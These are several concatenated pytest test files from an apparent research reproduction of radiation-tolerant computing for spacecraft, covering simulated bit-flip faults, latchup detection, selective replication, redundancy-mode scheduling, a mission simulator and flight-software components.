        refs = {ds.regions["weights"] for ds in spec.datasets}
        assert len(refs) == 1

    def test_flipped_weight_can_change_label(self):
        workload = DnnWorkload(window_samples=16, stride=16, windows=8, hidden=(8,))
        spec = workload.build(np.random.default_rng(5))
        changed = 0
        for ds in spec.datasets:
            inputs = spec.slice_inputs(ds)
            good = workload.run_job(inputs, {})
            corrupted = bytearray(inputs["weights"])
            corrupted[2] ^= 0x40  # high exponent bit of an early weight
            bad = workload.run_job({**inputs, "weights": bytes(corrupted)}, {})
            changed += good != bad
        assert changed > 0


class TestMatmul:
    def test_matches_numpy(self):
        workload = MatmulWorkload(size=16, block_rows=4)
        spec = workload.build(np.random.default_rng(0))
        a = np.frombuffer(spec.blobs["a"], dtype="<f4").reshape(16, 16)
        b = np.frombuffer(spec.blobs["b"], dtype="<f4").reshape(16, 16)
        outputs = workload.reference_outputs(spec)
        c = np.vstack(
            [np.frombuffer(o, dtype="<f4").reshape(4, 16) for o in outputs]
        )
        expected = (a.astype(np.float64) @ b.astype(np.float64)).astype("<f4")
        assert np.allclose(c, expected)

    def test_staircase_covers_all_cells(self):
        segments = staircase_schedule(step_duration=1.0)
        # 5 active-core levels x 9 frequency levels.
        assert len(segments) == 45
        assert sum(seg.quiescent for seg in segments) == 9
        assert all(seg.freq_override is not None for seg in segments)


class TestRegistryAndSchedules:
    def test_paper_workloads_complete(self):
        assert set(PAPER_WORKLOADS) == {
            "encryption",
            "compression",
            "intrusion_detection",
            "image_processing",
            "neural_networks",
        }
        instances = paper_workloads()
        assert [w.name for w in instances] == list(PAPER_WORKLOADS)

    def test_make_workload(self):
        workload = make_workload("encryption", chunk_bytes=32, chunks=2)
        assert workload.chunk_bytes == 32
        with pytest.raises(ConfigurationError):
            make_workload("nope")

    def test_every_workload_builds_and_runs(self):
        rng = np.random.default_rng(6)
        for name in ALL_WORKLOADS:
            workload = make_workload(name)
            spec = workload.build(np.random.default_rng(7))
            ds = spec.datasets[0]
            output = workload.run_job(spec.slice_inputs(ds), dict(ds.params))
            assert isinstance(output, bytes) and output
            assert len(output) <= spec.output_size
            assert workload.instructions_per_job(ds) > 0

    def test_navigation_schedule_fills_duration(self):
        segments = navigation_schedule(600.0, rng=np.random.default_rng(8))
        assert sum(seg.duration for seg in segments) == pytest.approx(600.0)
        labels = {seg.label for seg in segments}
        assert "quiescent" in labels and "nav:attitude" in labels
