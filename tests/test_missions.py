"""Tests for the mission simulator and the anomaly dataset."""

import pytest

from repro.errors import ConfigurationError
from repro.missions import (
    AnomalyDataset,
    AnomalyRecord,
    MissionConfig,
    MissionSimulator,
)
from repro.radiation import RadiationEnvironment

#: Compressed timeline: everything interesting inside half a day.
BUSY_SKY = RadiationEnvironment(
    name="test-sky",
    seu_per_day=10.0,
    sel_per_year=1200.0,
    sel_delta_amps_range=(0.07, 0.2),
)

QUIET_SKY = RadiationEnvironment(name="quiet", seu_per_day=0.0, sel_per_year=0.0)


def _record(**overrides):
    base = dict(
        mission_time_s=100.0,
        event_type="seu",
        detail="dram",
        detected=True,
        detected_by="emr-vote",
        detection_latency_s=0.0,
        outcome="corrected",
        action="outvoted",
    )
    base.update(overrides)
    return AnomalyRecord(**base)


class TestAnomalyDataset:
    def test_csv_roundtrip(self):
        dataset = AnomalyDataset()
        dataset.add(_record())
        dataset.add(
            _record(
                event_type="sel", detail="+0.070A@t500", action="power_cycle",
                outcome="cleared", detected_by="ild", detection_latency_s=2.5,
                mission_time_s=500.0,
            )
        )
        text = dataset.to_csv()
        recovered = AnomalyDataset.from_csv(text)
        assert recovered.records == dataset.records

    def test_validation(self):
        with pytest.raises(ConfigurationError):
            _record(event_type="meteor")
        with pytest.raises(ConfigurationError):
            _record(action="panic")
        with pytest.raises(ConfigurationError):
            _record(mission_time_s=-1.0)

    def test_analysis_helpers(self):
        dataset = AnomalyDataset()
        dataset.add(_record())
        dataset.add(_record(detected=False, detected_by="", outcome="no_effect",
                            action="none", detection_latency_s=-1.0))
        dataset.add(_record(event_type="sel", outcome="cleared",
                            detected_by="ild", action="power_cycle"))
        assert len(dataset) == 3
        assert dataset.detection_rate("seu") == pytest.approx(0.5)
        assert dataset.detection_rate("sel") == 1.0
        assert dataset.outcome_counts()["corrected"] == 1
        assert "3 anomalies" in dataset.summary()


class TestMissionSimulator:
    @pytest.fixture(scope="class")
    def protected_report(self):
        config = MissionConfig(
            duration_days=0.5, environment=BUSY_SKY, tick=8e-3, seed=8
        )
        return MissionSimulator(config).run()

    def test_protected_mission_survives_and_logs(self, protected_report):
        report = protected_report
        assert report.survived
        assert report.silent_corruptions == 0
        assert len(report.dataset) > 0
        assert report.mission_seconds == pytest.approx(0.5 * 86400.0)

    def test_sels_detected_and_cleared(self, protected_report):
        sels = protected_report.dataset.by_type("sel")
        if sels:  # Poisson: usually >=1 at this rate
            assert all(r.detected for r in sels)
            assert all(r.action == "power_cycle" for r in sels)
            assert all(0 <= r.detection_latency_s < 300 for r in sels)
            assert protected_report.power_cycles >= len(sels)

    def test_unprotected_mission_fares_worse(self, protected_report):
        config = MissionConfig(
            duration_days=0.5, environment=BUSY_SKY, tick=8e-3, seed=8,
            ild_enabled=False, emr_enabled=False,
        )
        bare = MissionSimulator(config).run()
        protected_bad = protected_report.silent_corruptions + (
            0 if protected_report.survived else 1
        )
        bare_bad = bare.silent_corruptions + (0 if bare.survived else 1)
        assert bare_bad >= protected_bad
        if protected_report.dataset.by_type("sel"):
            assert not bare.survived  # the latchup cooks the bare chip

    def test_quiet_sky_is_uneventful(self):
        config = MissionConfig(
            duration_days=0.2, environment=QUIET_SKY, tick=8e-3, seed=1
        )
        report = MissionSimulator(config).run()
        assert report.survived
        assert len(report.dataset) == 0
        assert report.availability == 1.0

    def test_config_validation(self):
        with pytest.raises(ConfigurationError):
            MissionConfig(duration_days=0.0)

    def test_summary_mentions_protection(self, protected_report):
        assert "ILD+EMR" in protected_report.summary()
