"""Tests for the ILD/EMR extensions: ECC caches, app-signaled
quiescence, and the telemetry black box."""

import numpy as np
import pytest

from repro.core.emr import EmrConfig, EmrRuntime
from repro.core.ild import TelemetryBlackBox, train_ild
from repro.errors import ConfigurationError, UncorrectableMemoryError
from repro.sim import (
    CurrentStep,
    Machine,
    MachineSpec,
    TelemetryConfig,
    TraceGenerator,
    quiescent_segment,
)
from repro.sim.cache import Cache
from repro.workloads import AesWorkload, navigation_schedule


class TestEccCache:
    def test_flip_corrected_on_lookup(self):
        cache = Cache(capacity_lines=8, line_size=64, name="t", ecc=True)
        cache.fill(5, bytes(64))
        cache.flip_bit(5, 10, 3)
        data = cache.lookup(5)
        assert bytes(data) == bytes(64)
        assert cache.stats.corrected_errors == 1

    def test_double_flip_same_word_detected(self):
        cache = Cache(capacity_lines=8, line_size=64, name="t", ecc=True)
        cache.fill(5, bytes(64))
        cache.flip_bit(5, 8, 0)
        cache.flip_bit(5, 9, 1)  # same 8-byte word
        with pytest.raises(UncorrectableMemoryError):
            cache.lookup(5)

    def test_non_ecc_cache_stays_corrupt(self):
        cache = Cache(capacity_lines=8, line_size=64, name="t", ecc=False)
        cache.fill(5, bytes(64))
        cache.flip_bit(5, 10, 3)
        assert bytes(cache.lookup(5)) != bytes(64)

    def test_refill_clears_dirty_state(self):
        cache = Cache(capacity_lines=8, line_size=64, name="t", ecc=True)
        cache.fill(5, bytes(64))
        cache.flip_bit(5, 0, 0)
        cache.fill(5, b"\xaa" * 64)
        assert bytes(cache.lookup(5)) == b"\xaa" * 64
        assert cache.stats.corrected_errors == 0

    def test_emr_reverts_to_parallel_3mr(self):
        machine = Machine(MachineSpec(cache_ecc=True))
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        spec = workload.build(np.random.default_rng(0))
        runtime = EmrRuntime(
            machine, workload, config=EmrConfig(replication_threshold=0.2)
        )
        assert runtime.cache_protected
        jobsets = runtime.plan(spec)
        assert len(jobsets) == 1  # one big jobset: plain parallel 3-MR
        assert len(jobsets[0]) == 24
        result = runtime.run()
        assert result.matches(workload.reference_outputs(spec))
        assert result.stats.flushed_lines == 0
        assert result.stats.replicated_bytes == 0

    def test_ecc_cache_machine_survives_l2_strike(self):
        from repro.core.emr.runtime import EmrHooks
        from repro.radiation.seu import flip_l2

        machine = Machine(MachineSpec(cache_ecc=True))
        workload = AesWorkload(chunk_bytes=64, chunks=6)
        spec = workload.build(np.random.default_rng(1))
        golden = workload.reference_outputs(spec)
        rng = np.random.default_rng(2)

        class Strike(EmrHooks):
            fired = 0

            def before_job(self, runtime, job):
                if self.fired < 3 and machine.caches.l2.resident_lines:
                    flip_l2(machine, rng)
                    self.fired += 1

        runtime = EmrRuntime(
            machine, workload,
            config=EmrConfig(replication_threshold=0.2), hooks=Strike(),
        )
        result = runtime.run(spec=spec)
        assert result.matches(golden)


class TestAppSignaledQuiescence:
    @pytest.fixture(scope="class")
    def setup(self):
        from repro.core.ild import IldConfig, IldDetector
        from repro.sim import ActivitySegment

        generator = TraceGenerator(TelemetryConfig(tick=2e-3))
        rng = np.random.default_rng(0)
        # Ground training covers the app's moderate-load profile too
        # (the operator knows which programs will fly), with a wide
        # quiescence gate so the model learns that regime.
        moderate = ActivitySegment(
            duration=120.0, core_util=(0.45,) * 4, dram_gbs=0.2,
            label="app-steady",
        )
        segments = navigation_schedule(480, rng=rng) + [moderate]
        train = generator.generate(segments, rng=rng)
        ground = train_ild(
            train,
            config=IldConfig(quiescence_utilization=0.5),
            max_instruction_rate=generator.max_instruction_rate,
        )
        # Flight detector: the same model behind the conservative gate.
        flight = IldDetector(
            ground.model, generator.max_instruction_rate, IldConfig()
        )
        return generator, flight, moderate

    def test_signal_extends_detection_into_moderate_load(self, setup):
        generator, detector, moderate = setup
        # The app runs steady moderate load — above the CPU-load gate —
        # and signals that it is not processing anything critical.
        rng = np.random.default_rng(1)
        trace = generator.generate(
            [moderate], rng=rng,
            current_steps=[CurrentStep(start=20.0, delta_amps=0.09)],
        )
        detector.reset()
        assert detector.process(trace) == []  # load gate rejects everything
        detector.reset()
        signal = np.ones(trace.n_ticks, dtype=bool)
        detections = detector.process(trace, app_quiescent=signal)
        assert detections
        assert detections[0].time > 20.0

    def test_signal_shape_validated(self, setup):
        generator, detector, _moderate = setup
        rng = np.random.default_rng(2)
        trace = generator.generate([quiescent_segment(5.0)], rng=rng)
        with pytest.raises(ConfigurationError):
            detector.process(trace, app_quiescent=np.ones(3, dtype=bool))


class TestTelemetryBlackBox:
    @pytest.fixture(scope="class")
    def recorded(self):
        generator = TraceGenerator(TelemetryConfig(tick=2e-3))
        rng = np.random.default_rng(0)
        train = generator.generate(navigation_schedule(600, rng=rng), rng=rng)
        detector = train_ild(
            train, max_instruction_rate=generator.max_instruction_rate
        )
        blackbox = TelemetryBlackBox(capacity_rows=2048)
        onset = 60.0
        trace = generator.generate(
            [quiescent_segment(180.0)], rng=rng,
            current_steps=[CurrentStep(start=onset, delta_amps=0.07)],
        )
        detections = detector.process(trace)
        diagnostics = blackbox.observe(detector, trace, detections)
        return blackbox, diagnostics, onset

    def test_diagnostic_produced_per_alarm(self, recorded):
        blackbox, diagnostics, _ = recorded
        assert diagnostics
        assert len(blackbox.diagnostics) == len(diagnostics)
        assert len(blackbox) > 100

    def test_step_estimate_near_injected_delta(self, recorded):
        _, diagnostics, _ = recorded
        step = diagnostics[0].estimated_step_amps
        assert step == pytest.approx(0.07, abs=0.03)
        assert "ΔI" in diagnostics[0].summary()

    def test_window_brackets_alarm(self, recorded):
        _, diagnostics, onset = recorded
        diagnostic = diagnostics[0]
        times = [row.time for row in diagnostic.rows]
        assert min(times) < diagnostic.detection.time <= max(times) + 60.0

    def test_ring_bounded(self):
        blackbox = TelemetryBlackBox(capacity_rows=16)
        assert blackbox.capacity_rows == 16
        with pytest.raises(ConfigurationError):
            TelemetryBlackBox(capacity_rows=4)
