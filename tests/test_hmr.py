"""The HMR mode plane: the lattice, the boundary scheduler, the EMR
mode-schedule contract, and the per-lane tick masks.

The load-bearing property is commit determinism: a fault-free EMR run
produces byte-identical outputs under *any* mode-segment placement at
jobset boundaries — the schedule moves watts and wall time, never
bytes. A hypothesis property drives that against randomized schedules.
"""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.core.emr.runtime import EmrRuntime
from repro.core.emr.scheduler import ModeSegment, validate_schedule
from repro.errors import ConfigurationError
from repro.flightsw.eventlog import EventLog
from repro.hmr import (
    DUPLEX,
    EMR_VOTED,
    INDEPENDENT,
    MODES,
    TMR_LOCKSTEP,
    HMRScheduler,
    RedundancyMode,
    WorkloadPhase,
    mode_named,
    mode_segment,
)
from repro.recovery import DegradationPolicy, PolicyConfig
from repro.sim import DEFAULT_LANE_MODE, Machine, MachineSpec, TickLaneMode
from repro.sim.batch import BatchMachines, FleetTicker, TickConfig, TickProgram
from repro.workloads import ImageProcessingWorkload


class TestModeLattice:
    def test_lattice_orders_weakest_to_strongest(self):
        assert MODES == (INDEPENDENT, DUPLEX, EMR_VOTED, TMR_LOCKSTEP)
        costs = [mode.current_cost_amps for mode in MODES]
        assert costs == sorted(costs)
        assert INDEPENDENT.replicas == 1 and not INDEPENDENT.voted
        assert TMR_LOCKSTEP.replication_threshold == 0.0  # everything

    def test_legacy_aliases_resolve(self):
        assert mode_named("economy") is DUPLEX
        assert mode_named("standard") is EMR_VOTED
        assert mode_named("hardened") is TMR_LOCKSTEP
        assert mode_named("3mr-lockstep") is TMR_LOCKSTEP

    def test_unknown_mode_rejected(self):
        with pytest.raises(ConfigurationError):
            mode_named("paranoid")

    def test_invalid_mode_shapes_rejected(self):
        with pytest.raises(ConfigurationError):
            RedundancyMode(
                name="bad", n_executors=2, replicas=3,
                replication_threshold=0.5, ild=INDEPENDENT.ild,
                current_cost_amps=0.5,
            )
        with pytest.raises(ConfigurationError):
            RedundancyMode(
                name="bad", n_executors=3, replicas=3,
                replication_threshold=1.5, ild=INDEPENDENT.ild,
                current_cost_amps=0.5,
            )
        with pytest.raises(ConfigurationError):
            RedundancyMode(
                name="bad", n_executors=3, replicas=3,
                replication_threshold=0.5, ild=INDEPENDENT.ild,
                current_cost_amps=0.5, scheme="quantum",
            )

    def test_tick_mask_carries_standing_draw(self):
        mask = EMR_VOTED.as_tick_mode()
        assert isinstance(mask, TickLaneMode)
        assert mask.extra_current_amps == EMR_VOTED.standing_current_amps
        assert INDEPENDENT.as_tick_mode().extra_current_amps == 0.0
        assert DEFAULT_LANE_MODE.extra_current_amps == 0.0

    def test_mode_segment_maps_every_knob(self):
        seg = mode_segment(TMR_LOCKSTEP, 5)
        assert seg.datasets == 5
        assert seg.n_executors == TMR_LOCKSTEP.n_executors
        assert seg.replicas == TMR_LOCKSTEP.replicas
        assert seg.replication_threshold == TMR_LOCKSTEP.replication_threshold
        assert seg.freq_level == TMR_LOCKSTEP.freq_level == -2
        assert seg.name == "3mr-lockstep"
        assert mode_segment(INDEPENDENT, 2, name="burst").name == "burst"

    def test_schedule_must_cover_datasets_exactly(self):
        with pytest.raises(ConfigurationError):
            validate_schedule([mode_segment(EMR_VOTED, 4)], 9)
        with pytest.raises(ConfigurationError):
            validate_schedule([], 9)
        with pytest.raises(ConfigurationError):
            ModeSegment(datasets=0)


# ----------------------------------------------------------------------
# Mode-schedule placement property
# ----------------------------------------------------------------------

_WORKLOAD = ImageProcessingWorkload(map_size=32, template_size=16, stride=8)
_SPEC = _WORKLOAD.build(np.random.default_rng(0))
_N_DATASETS = len(_SPEC.datasets)
_BASELINE = EmrRuntime(Machine.rpi_zero2w(seed=0), _WORKLOAD).run(spec=_SPEC)


@st.composite
def mode_schedules(draw):
    """An arbitrary partition of the dataset list into mode segments."""
    n_cuts = draw(st.integers(0, min(3, _N_DATASETS - 1)))
    cuts = sorted(draw(st.lists(
        st.integers(1, _N_DATASETS - 1),
        min_size=n_cuts, max_size=n_cuts, unique=True,
    )))
    bounds = [0, *cuts, _N_DATASETS]
    return [
        mode_segment(draw(st.sampled_from(MODES)), hi - lo)
        for lo, hi in zip(bounds, bounds[1:])
    ]


class TestSchedulePlacement:
    @given(schedule=mode_schedules())
    @settings(max_examples=12, deadline=None)
    def test_fault_free_outputs_invariant_under_placement(self, schedule):
        runtime = EmrRuntime(Machine.rpi_zero2w(seed=0), _WORKLOAD)
        result = runtime.run(spec=_SPEC, mode_schedule=schedule)
        assert result.outputs == _BASELINE.outputs

    def test_schedule_moves_time_not_bytes(self):
        half = _N_DATASETS // 2
        schedule = [
            mode_segment(INDEPENDENT, half),
            mode_segment(TMR_LOCKSTEP, _N_DATASETS - half),
        ]
        runtime = EmrRuntime(Machine.rpi_zero2w(seed=0), _WORKLOAD)
        result = runtime.run(spec=_SPEC, mode_schedule=schedule)
        assert result.outputs == _BASELINE.outputs
        assert result.wall_seconds != _BASELINE.wall_seconds


class TestHMRScheduler:
    def test_escalates_one_rung_per_boundary_until_budget(self):
        sched = HMRScheduler(
            start_mode="independent",
            policy=PolicyConfig(
                start_level="independent", escalate_alarms=2,
                cooldown_seconds=0.0,
            ),
            power_budget_amps=0.70,
        )
        assert sched.mode is INDEPENDENT
        sched.observe_alarm(10.0)
        sched.observe_alarm(11.0)
        assert sched.on_boundary(12.0).to_mode is DUPLEX
        sched.observe_alarm(12.5)
        sched.observe_alarm(12.6)
        assert sched.on_boundary(13.0).to_mode is EMR_VOTED
        sched.observe_alarm(13.5)
        sched.observe_alarm(13.6)
        # The floor climbs to 3mr-lockstep (0.72 A) but the 0.70 A
        # budget holds the grant at emr-voted: no change at all.
        assert sched.on_boundary(14.0) is None
        assert sched.policy.level is TMR_LOCKSTEP
        assert sched.mode is EMR_VOTED

    def test_request_granted_only_at_boundary(self):
        sched = HMRScheduler(start_mode="independent")
        sched.request("emr-voted")
        assert sched.mode is INDEPENDENT  # nothing moves mid-jobset
        change = sched.on_boundary(5.0)
        assert change.to_mode is EMR_VOTED
        assert "requested" in change.reason
        assert sched.on_boundary(6.0) is None  # already granted

    def test_policy_floor_overrides_weaker_request(self):
        sched = HMRScheduler(
            start_mode="3mr-lockstep",
            policy=DegradationPolicy(
                PolicyConfig(start_level="3mr-lockstep"), lattice=MODES,
            ),
        )
        sched.request("independent")
        assert sched.on_boundary(1.0) is None  # the floor pins us up
        assert sched.mode is TMR_LOCKSTEP

    def test_start_mode_over_budget_rejected(self):
        with pytest.raises(ConfigurationError):
            HMRScheduler(start_mode="3mr-lockstep", power_budget_amps=0.5)

    def test_policy_must_walk_the_modes_lattice(self):
        with pytest.raises(ConfigurationError):
            HMRScheduler(policy=DegradationPolicy(PolicyConfig()))

    def test_mode_change_logged_as_hmr_evr(self):
        eventlog = EventLog()
        sched = HMRScheduler(start_mode="independent", eventlog=eventlog)
        sched.request("duplex-checkpoint")
        sched.on_boundary(3.0)
        events = [e for e in eventlog.events() if e.name == "hmr.mode"]
        assert len(events) == 1
        args = dict(events[0].args)
        assert args["from_mode"] == "independent"
        assert args["to_mode"] == "duplex-checkpoint"
        assert args["replicas"] == 2

    def test_plan_segments_apportions_exactly(self):
        sched = HMRScheduler(phases=(
            WorkloadPhase("burst", 0.75, INDEPENDENT),
            WorkloadPhase("solve", 0.25, EMR_VOTED),
        ))
        segments = sched.plan_segments(49)
        assert [seg.name for seg in segments] == ["burst", "solve"]
        assert sum(seg.datasets for seg in segments) == 49
        assert segments[0].datasets == 37  # largest remainder of 36.75

    def test_plan_segments_drops_zero_count_phases(self):
        sched = HMRScheduler(phases=(
            WorkloadPhase("burst", 0.99, INDEPENDENT),
            WorkloadPhase("sliver", 0.01, TMR_LOCKSTEP),
        ))
        segments = sched.plan_segments(2)
        assert [seg.name for seg in segments] == ["burst"]
        assert segments[0].datasets == 2

    def test_plan_segments_caps_phases_at_budget(self):
        sched = HMRScheduler(
            phases=(WorkloadPhase("solve", 1.0, TMR_LOCKSTEP),),
            start_mode="independent",
            power_budget_amps=0.70,
        )
        [segment] = sched.plan_segments(9)
        # 3mr-lockstep costs 0.72 A; the grant steps down to emr-voted.
        assert segment.replication_threshold == EMR_VOTED.replication_threshold

    def test_plan_segments_without_phases_covers_with_current_mode(self):
        sched = HMRScheduler(start_mode="duplex-checkpoint")
        [segment] = sched.plan_segments(7)
        assert segment.datasets == 7
        assert segment.name == "duplex-checkpoint"
        with pytest.raises(ConfigurationError):
            sched.plan_segments(0)


# ----------------------------------------------------------------------
# Per-lane tick masks
# ----------------------------------------------------------------------

_TICK_SPEC = MachineSpec(
    dram_size=1 << 16, l1_lines=8, l2_lines=16, flash_capacity=1 << 16
)


def _tick_program(ticks=200):
    t = np.arange(ticks, dtype=float)
    rows = np.clip(
        0.5 + 0.4 * np.sin(t[:, None] / 7.0 + np.arange(_TICK_SPEC.n_cores)),
        0.0, 1.0,
    )
    return TickProgram(rows)


class TestLaneModeMasks:
    def test_batch_with_lane_modes_matches_scalar(self):
        config = TickConfig()
        program = _tick_program()
        masks = [EMR_VOTED.as_tick_mode(), None, TMR_LOCKSTEP.as_tick_mode()]
        seeds = [5, 6, 7]
        tickers = [
            FleetTicker(Machine(_TICK_SPEC, seed=s), config, lane_id=i,
                        mode=masks[i])
            for i, s in enumerate(seeds)
        ]
        for ticker in tickers:
            ticker.run(program)
        batch = BatchMachines.from_specs(_TICK_SPEC, seeds=seeds,
                                         config=config)
        batch.set_lane_modes(masks)
        batch.run(program)
        assert batch.lane_digests() == [t.state_digest() for t in tickers]
        assert batch.lane_mode(1) is DEFAULT_LANE_MODE
        assert batch.lane_mode(2).extra_current_amps == (
            TMR_LOCKSTEP.standing_current_amps
        )

    def test_default_mask_is_arithmetic_noop(self):
        config = TickConfig()
        program = _tick_program()
        plain = BatchMachines.from_specs(_TICK_SPEC, seeds=[3], config=config)
        plain.run(program)
        masked = BatchMachines.from_specs(_TICK_SPEC, seeds=[3], config=config)
        masked.set_lane_modes([DEFAULT_LANE_MODE])
        masked.run(program)
        assert masked.lane_digests() == plain.lane_digests()


class TestFleetSchemes:
    def test_modes_normalize_to_fleet_schemes(self):
        from repro.fleet import HMR_POLICIES, fleet_mode, normalize_scheme

        assert normalize_scheme("hardened") == "3mr"
        assert normalize_scheme("independent") == "none"
        assert normalize_scheme("emr") == "emr"
        assert fleet_mode("emr").name == "emr-voted"
        assert set(HMR_POLICIES) >= {
            "adaptive-cruise", "storm-watch", "duty-cycle",
        }
