"""Tests for the flight-software framework."""

import numpy as np
import pytest

from repro.errors import ConfigurationError, WorkloadError
from repro.flightsw import (
    ActivityCost,
    AttitudeEstimator,
    CameraManager,
    Command,
    CommandDispatcher,
    Component,
    DownlinkManager,
    EventLog,
    EvrSeverity,
    RateGroupScheduler,
    Sequencer,
    TelemetryDb,
    TickContext,
    TimedCommand,
    activity_to_segments,
    build_frame,
    flight_schedule,
    ground_pass_sequence,
    parse_frame,
    standard_components,
)


class _CountingComponent(Component):
    rate_hz = 1.0

    def __init__(self, name="counter", rate_hz=1.0, instructions=1000):
        super().__init__(name)
        self.rate_hz = rate_hz
        self.instructions = instructions
        self.ticks = 0

    def tick(self, ctx):
        self.ticks += 1
        ctx.emit(f"{self.name}.ticks", self.ticks)
        return ActivityCost(instructions=self.instructions)


class TestActivityCost:
    def test_addition(self):
        total = ActivityCost(instructions=10, disk_reads=1) + ActivityCost(
            instructions=5, dram_bytes=7
        )
        assert total == ActivityCost(
            instructions=15, dram_bytes=7, disk_reads=1, disk_writes=0
        )


class TestTelemetryDb:
    def test_store_and_latest(self):
        db = TelemetryDb()
        db.store("a.x", 1.0, 42.0)
        db.store("a.x", 2.0, 43.0)
        assert db.latest("a.x").value == 43.0
        assert len(db.history("a.x")) == 2
        assert db.channels() == ("a.x",)

    def test_ring_bounded(self):
        db = TelemetryDb(history_per_channel=3)
        for i in range(10):
            db.store("c", float(i), float(i))
        history = db.history("c")
        assert len(history) == 3
        assert history[0].value == 7.0

    def test_missing_channel(self):
        db = TelemetryDb()
        assert db.latest("nope") is None
        assert db.history("nope") == ()


class TestFrames:
    def test_roundtrip(self):
        db = TelemetryDb()
        db.store("power.bus_current_a", 10.0, 1.82)
        db.store("thermal.plate_temp_c", 10.5, 21.3)
        frame = build_frame(db, frame_time=11.0)
        frame_time, values = parse_frame(frame)
        assert frame_time == 11.0
        assert values["power.bus_current_a"] == (10.0, 1.82)
        assert values["thermal.plate_temp_c"] == (10.5, 21.3)

    def test_corrupted_frame_rejected(self):
        db = TelemetryDb()
        db.store("c", 1.0, 2.0)
        frame = bytearray(build_frame(db, 2.0))
        frame[8] ^= 0x01  # flip a payload bit (an SEU in the buffer)
        with pytest.raises(WorkloadError):
            parse_frame(bytes(frame))

    def test_truncated_frame_rejected(self):
        with pytest.raises(WorkloadError):
            parse_frame(b"RS")


class TestCommands:
    def test_dispatch_routes_by_name(self):
        adcs = AttitudeEstimator()
        dispatcher = CommandDispatcher([adcs])
        ok = dispatcher.dispatch(Command("adcs", "SLEW", {"seconds": 5}))
        assert ok.ok
        bad = dispatcher.dispatch(Command("adcs", "WARP", {}))
        assert not bad.ok and "unknown opcode" in bad.message
        missing = dispatcher.dispatch(Command("ghost", "X"))
        assert not missing.ok
        assert len(dispatcher.log) == 3

    def test_duplicate_names_rejected(self):
        with pytest.raises(ConfigurationError):
            CommandDispatcher([AttitudeEstimator(), AttitudeEstimator()])

    def test_sequencer_fires_in_order(self):
        camera = CameraManager()
        dispatcher = CommandDispatcher([camera])
        sequencer = Sequencer(
            dispatcher,
            [
                TimedCommand(10.0, Command("camera", "CAPTURE", {"frames": 1})),
                TimedCommand(5.0, Command("camera", "CAPTURE", {"frames": 1})),
            ],
        )
        assert sequencer.pending == 2
        assert sequencer.advance_to(4.0) == []
        fired = sequencer.advance_to(10.0)
        assert len(fired) == 2 and all(r.ok for r in fired)
        assert camera.captures == 2

    def test_bad_command_args(self):
        camera = CameraManager()
        response = CommandDispatcher([camera]).dispatch(
            Command("camera", "CAPTURE", {"frames": 0})
        )
        assert not response.ok


class TestScheduler:
    def test_rates_respected(self):
        fast = _CountingComponent("fast", rate_hz=10.0)
        slow = _CountingComponent("slow", rate_hz=1.0)
        scheduler = RateGroupScheduler([fast, slow], base_rate_hz=10.0)
        result = scheduler.run(10.0)
        assert fast.ticks == 100
        assert slow.ticks == 10
        assert result.dispatches == 110

    def test_incompatible_rate_rejected(self):
        odd = _CountingComponent("odd", rate_hz=3.0)
        with pytest.raises(ConfigurationError):
            RateGroupScheduler([odd], base_rate_hz=10.0)

    def test_aggregation_intervals(self):
        component = _CountingComponent(instructions=500)
        scheduler = RateGroupScheduler([component], base_rate_hz=10.0)
        result = scheduler.run(5.0)
        assert len(result.intervals) == 5
        assert result.total_cost.instructions == 500 * 5

    def test_disabled_component_skipped(self):
        component = _CountingComponent()
        component.enabled = False
        RateGroupScheduler([component], base_rate_hz=10.0).run(3.0)
        assert component.ticks == 0


class TestProfileBridge:
    def test_segments_cover_duration(self):
        segments, _ = flight_schedule(300.0, rng=np.random.default_rng(0))
        assert sum(s.duration for s in segments) == pytest.approx(300.0)

    def test_idle_intervals_marked_quiescent(self):
        segments, _ = flight_schedule(
            240.0, rng=np.random.default_rng(0), sequence=[]
        )
        # With no commands, only housekeeping runs: everything quiescent.
        assert all(s.quiescent for s in segments)

    def test_pass_creates_bursts(self):
        sequence = ground_pass_sequence(start=30.0)
        segments, result = flight_schedule(
            300.0, rng=np.random.default_rng(0), sequence=sequence
        )
        busy = [s for s in segments if not s.quiescent]
        assert busy
        # The camera's processing burst should drive multiple cores.
        assert max(sum(s.core_util) for s in busy) > 1.5
        # Commands landed and telemetry recorded the capture backlog.
        # (The 10 Hz slew channel's ring has already wrapped past the
        # early slew; the 1 Hz camera queue keeps the whole span.)
        queue = result.telemetry.history("camera.queue_depth")
        assert any(sample.value > 0 for sample in queue)

    def test_util_capped_at_one(self):
        segments, _ = flight_schedule(240.0, rng=np.random.default_rng(1))
        for segment in segments:
            assert all(0.0 <= u <= 1.0 for u in segment.core_util)

    def test_standard_components_unique_names(self):
        names = [c.name for c in standard_components()]
        assert len(names) == len(set(names))


class TestEndToEndWithIld:
    def test_ild_trains_and_detects_on_flightsw_telemetry(self):
        from repro.core.ild import train_ild
        from repro.sim import CurrentStep, TelemetryConfig, TraceGenerator

        rng = np.random.default_rng(0)
        generator = TraceGenerator(TelemetryConfig(tick=8e-3))
        train_segments, _ = flight_schedule(900.0, rng=rng)
        train_trace = generator.generate(train_segments, rng=rng)
        detector = train_ild(
            train_trace, max_instruction_rate=generator.max_instruction_rate
        )
        flight_segments, _ = flight_schedule(600.0, rng=np.random.default_rng(1))
        trace = generator.generate(
            flight_segments, rng=rng,
            current_steps=[CurrentStep(start=200.0, delta_amps=0.07)],
        )
        detections = detector.process(trace)
        assert detections and detections[0].time - 200.0 < 60.0


class TestEventLog:
    def _ctx(self, time=5.0):
        return TickContext(
            time=time, dt=1.0, telemetry=TelemetryDb(),
            rng=np.random.default_rng(0),
        )

    def test_explicit_time_commits_immediately(self):
        log = EventLog()
        log.log("sel.trip", "latchup detected", time=12.5,
                severity=EvrSeverity.WARNING_HI, mean_residual_a=0.061)
        (event,) = log.events()
        assert event.time == 12.5
        assert event.severity is EvrSeverity.WARNING_HI
        assert event.args == (("mean_residual_a", 0.061),)
        assert "sel.trip" in event.render()

    def test_pending_stamped_at_dispatch(self):
        log = EventLog()
        log.log("camera.capture", "frame stored")
        assert log.events() == ()  # not committed until the tick
        ctx = self._ctx(time=7.0)
        cost = log.tick(ctx)
        (event,) = log.events()
        assert event.time == 7.0
        assert cost.instructions > 10_000  # commit work was charged
        assert ctx.telemetry.latest("evr.events_total").value == 1.0

    def test_ring_wraps_and_counts_dropped(self):
        log = EventLog(capacity=3)
        for i in range(5):
            log.log("tick", f"event {i}", time=float(i))
        assert log.dropped == 2
        assert log.total_logged == 5
